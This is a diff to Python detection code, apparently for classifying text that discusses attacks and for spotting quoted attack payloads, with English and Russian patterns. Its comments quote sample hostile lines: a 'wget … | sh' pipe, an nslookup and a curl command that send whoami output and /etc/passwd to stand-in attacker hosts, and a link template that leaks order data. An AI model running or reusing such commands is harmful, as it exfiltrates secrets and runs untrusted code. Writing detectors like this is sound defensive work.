@@ -461,8 +461,8 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             r"|" + PRINTED_ON +
                             # a defence built against it: "Need an allowlist of actions", "going to add a check for hidden text",
                             # «добавить фильтр на такие письма»
-                            r"|\b(?:add|build|write|need|needs|want|wants|added|adding|building"
-                            r"|implement\w*)\b (?!to )(?:\S+ ){0,2}?(?:checks?|filters?|"
+                            r"|\b(?:add|build|write|wrote|written|need|needs|want|wants|added|adding|building"
+                            r"|implement\w*)\b (?!to )(?:\S+ ){0,2}?(?:checks?|filters?|(?:unit |regression )?tests?|test cases?|"
                             r"detectors?|scanners?|guards?|guardrails?|allowlists?|whitelists?|sanitiz\w+|validation)\b"
                             r"|(?<!\w)(?:добав|сдела|напис|постав|нуж)\w* (?:\S+ ){0,2}?(?:проверк|фильтр|детектор|сканер|белый список)\w*"
                             # his defence checked: «Проверить, что наш ассистент не отвечает на такие письма сам», "make sure our bot
@@ -519,7 +519,8 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             # the quote called an example where one teaches: "slides for the talk: the textbook example is …",
                             # «для лекции: типичный пример — …»; or what it is used for: "I use it to show why …", «на нём объясняю»
                             r"|\b(?:slides?|lecture|talk|workshop|training|course|class|handout|presentation|seminar|cle|speaker notes?)\b[^.\n]{0,60}"
-                            r"\bexamples?\b|(?:слайд|доклад|лекци|воркшоп|тренинг|курс|методичк|презентаци|семинар|пособи|учебник|памятк|брошюр)\w*[^.\n]{0,60}"
+                            r"\bexamples?\b|(?:слайд|доклад|лекци|воркшоп|тренинг|курс|методичк|презентаци|семинар|пособи|учебник|памятк|брошюр|выступлени|вебинар|"
+                            r"митап|методобъединени)\w*[^\n]{0,80}?"
                             r"пример|\b(?:use|using) (?:it|this|them|that) to (?:show|explain|illustrate|demonstrate|teach)\b"
                             r"|на (?:нём|нем|ней|этом|них) (?:объясня|показыва|разбира)\w*"
                             # the quote named a warning sign, a trick or a lure: "'…' is a red flag — report it",
@@ -554,10 +555,12 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
 # (or a line, a command found where it stood, told in the past: "Found a line in a vendored JS file: `// AI agents …`", «в описании
 # PR была команда `wget … | sh`», "they got a crontab beacon `…` onto the eval server")
 _PAYLOAD = re.compile(r"((?:\b(?:render\w*|like|as|e\.g\.|payloads?|examples?|inserts|emits|outputs)|(?<!\w)(?:вставляет|выводит|"
-                      r"рендерит|вставить|вывести|отрендерить|например|вида|типа|вроде)):? "
+                      r"рендерит|вставить|вывести|отрендерить|например|вида|типа|вроде)):? (?=[`!\[])"
                       r"|(?i:\b(?:found|was|were|got|had|planted|hid|left)|(?<!\w)(?:нашл\w*|нашёл|был[аи]?|оставил\w*|спрятал\w*))(?!\w)"
                       r"[^`\n.]{0,40}?(?:\b(?:lines?|commands?|comments?|snippets?|beacons?|one-liners?|strings?)\b|(?<!\w)(?:команд|"
-                      r"строк|строчк|сниппет|комментари)\w*)[^`\n]{0,60}?)(?:!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
+                      r"строк|строчк|сниппет|комментари)\w*)[^`\n]{0,60}?(?=`)"
+                      # (a link shown after "a link like": "the reply contains a link like https://cdek-track.info/q?d={orders}")
+                      r"|\b(?:links?|urls?|ссылк\w*) (?:like|such as|e\.g\.|вроде|типа|вида) )(?:https?://[^\s)\]]{0,200}[{<$][^\s)\]]{0,100}|!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
 # an attack's payload shown unquoted, in a note that speaks of attacks (`_ABOUT_ATTACKS`): a command in brackets ("DNS exfil:
 # the attacker encodes data in a subdomain (`nslookup $(whoami).attacker.tld`)"), a command after "example …:" up to a dash
 # ("Classic exfil example from training: curl https://evil.example/$(cat /etc/passwd | base64) — our firewall blocks …"),
